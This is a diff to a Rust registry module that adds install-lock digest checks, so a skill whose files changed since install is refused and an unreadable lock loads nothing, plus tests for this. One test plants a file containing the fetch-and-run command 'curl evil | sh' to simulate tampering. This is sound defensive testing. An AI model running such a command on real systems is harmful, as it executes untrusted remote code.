@@ -1,12 +1,21 @@
 //! The skills this executor can run, loaded from its skills root, with each tool's
-//! argument schema compiled once.
+//! argument schema compiled once. When the root has an install lock
+//! (`.skillbox-lock.json`, written by `skillbox skill install`), a skill listed there loads
+//! only while its files still hash to the recorded package digest; an unreadable lock
+//! loads nothing (fail closed).
 
 use std::collections::HashMap;
 use std::path::{Path, PathBuf};
 use std::sync::Arc;
 
 use skillbox_protocol::methods::ToolInfo;
-use skillbox_protocol::skill::{discover, DiscoveryOptions, Skill, Skipped, Tool};
+use skillbox_protocol::skill::digest::digest_hex;
+use skillbox_protocol::skill::{
+    discover, package_digest, Diagnostic, DiscoveryOptions, InstallLock, Skill, Skipped, Tool,
+};
+
+/// The reason a locked skill whose files no longer match its install digest is skipped.
+pub const CHANGED_SINCE_INSTALL: &str = "files changed since install";
 
 /// A skill and its compiled validators.
 #[derive(Debug)]
@@ -21,6 +30,33 @@ impl RegisteredSkill {
     pub fn tool(&self, name: &str) -> Option<(&Tool, &jsonschema::Validator)> {
         let tool = self.skill.tool(name)?;
         Some((tool, self.validators.get(name)?))
+    }
+}
+
+/// Why the install lock keeps `skill` from loading, if it does.
+fn lock_refusal(
+    lock: &Result<Option<InstallLock>, skillbox_protocol::skill::lock::LockReadError>,
+    skill: &Skill,
+) -> Option<String> {
+    let lock = match lock {
+        Ok(Some(lock)) => lock,
+        Ok(None) => return None,
+        Err(e) => {
+            return Some(format!(
+                "{e}; nothing loads until it is repaired or reinstalled"
+            ))
+        }
+    };
+    let entry = lock.get(&skill.name)?;
+    match package_digest(&skill.dir) {
+        Ok(d) if d.hex == digest_hex(&entry.digest) => None,
+        Ok(d) => Some(format!(
+            "{CHANGED_SINCE_INSTALL} (digest sha256:{} != installed {}); reinstall it with `skillbox skill install`",
+            d.hex, entry.digest
+        )),
+        Err(e) => Some(format!(
+            "{CHANGED_SINCE_INSTALL} ({e}); reinstall it with `skillbox skill install`"
+        )),
     }
 }
 
@@ -39,7 +75,16 @@ impl Registry {
         let catalog = discover(&[root.to_path_buf()], DiscoveryOptions::default());
         let mut skipped = catalog.skipped;
         let mut skills = HashMap::new();
+        let lock = InstallLock::read(root);
         for skill in catalog.skills {
+            if let Some(reason) = lock_refusal(&lock, &skill) {
+                tracing::warn!(skill = %skill.name, %reason, "skill not loaded");
+                skipped.push(Skipped {
+                    diagnostics: vec![Diagnostic::error(&skill.dir, "-", reason)],
+                    dir: skill.dir,
+                });
+                continue;
+            }
             let mut validators = HashMap::new();
             let mut broken = None;
             for tool in &skill.tools {
@@ -55,9 +100,7 @@ impl Registry {
             if let Some(reason) = broken {
                 skipped.push(Skipped {
                     dir: skill.dir.clone(),
-                    diagnostics: vec![skillbox_protocol::skill::Diagnostic::error(
-                        &skill.dir, "tools", reason,
-                    )],
+                    diagnostics: vec![Diagnostic::error(&skill.dir, "tools", reason)],
                 });
                 continue;
             }
@@ -109,5 +152,79 @@ impl Registry {
             .collect();
         out.sort_by(|a, b| a.name.cmp(&b.name));
         out
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use skillbox_protocol::skill::{LockedSkill, Trust};
+
+    fn skill(root: &Path, name: &str) {
+        let dir = root.join(name);
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::write(
+            dir.join("SKILL.md"),
+            format!("---\nname: {name}\ndescription: test skill\n---\nbody\n"),
+        )
+        .unwrap();
+    }
+
+    fn lock(root: &Path, names: &[&str]) {
+        let mut lock = InstallLock::default();
+        for name in names {
+            let digest = package_digest(&root.join(name)).unwrap().prefixed();
+            lock.skills.insert(
+                name.to_string(),
+                LockedSkill {
+                    version: Some("1.0.0".into()),
+                    digest,
+                    trust: Trust::Local,
+                    publisher: None,
+                    leaf_fingerprint: None,
+                    root_fingerprint: None,
+                    installed_at: "2025-01-01T00:00:00Z".into(),
+                },
+            );
+        }
+        std::fs::write(InstallLock::path(root), serde_json::to_vec(&lock).unwrap()).unwrap();
+    }
+
+    #[test]
+    fn registry_loads_locked_skill_with_matching_digest() {
+        let d = tempfile::tempdir().unwrap();
+        skill(d.path(), "alpha");
+        skill(d.path(), "beta");
+        lock(d.path(), &["alpha"]);
+        let r = Registry::load(d.path());
+        assert!(r.skill("alpha").is_some());
+        assert!(r.skill("beta").is_some(), "unlisted skills load as before");
+        assert!(r.skipped.is_empty(), "{:?}", r.skipped);
+    }
+
+    #[test]
+    fn registry_skips_locked_skill_changed_on_disk_after_install() {
+        let d = tempfile::tempdir().unwrap();
+        skill(d.path(), "alpha");
+        lock(d.path(), &["alpha"]);
+        std::fs::write(d.path().join("alpha/extra.sh"), b"curl evil | sh\n").unwrap();
+        let r = Registry::load(d.path());
+        assert!(r.skill("alpha").is_none());
+        assert_eq!(r.skipped.len(), 1);
+        assert!(
+            r.skipped[0].reason().contains(CHANGED_SINCE_INSTALL),
+            "{}",
+            r.skipped[0].reason()
+        );
+    }
+
+    #[test]
+    fn registry_loads_nothing_when_the_lock_is_unreadable() {
+        let d = tempfile::tempdir().unwrap();
+        skill(d.path(), "alpha");
+        std::fs::write(InstallLock::path(d.path()), b"{not json").unwrap();
+        let r = Registry::load(d.path());
+        assert!(r.is_empty());
+        assert!(r.skipped[0].reason().contains("install lock"));
     }
 }
